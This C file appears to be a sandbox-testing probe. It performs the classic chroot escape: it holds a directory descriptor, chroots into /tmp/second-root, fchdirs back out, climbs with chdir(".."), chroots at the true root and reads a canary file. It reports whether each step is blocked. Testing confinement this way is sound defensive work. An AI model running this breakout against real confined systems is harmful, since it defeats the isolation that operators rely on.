// The classic breakout: keep a descriptor outside a second chroot, walk up from it, chroot there.
#include "probe.h"
#include <sys/stat.h>

int main(int argc, char **argv) {
    if (argc != 2) return 64;
    int here = open(".", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/second-root", 0755);
    if (chroot("/tmp/second-root") < 0) blocked_by_errno("chroot");
    if (fchdir(here) < 0) blocked_by_errno("fchdir");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0) break;
    if (chroot(".") < 0) blocked_by_errno("chroot back");
    int fd = open(argv[1], O_RDONLY);
    if (fd < 0) blocked_by_errno("open canary");
    succeed_with_text_of(fd, "left the root");
}
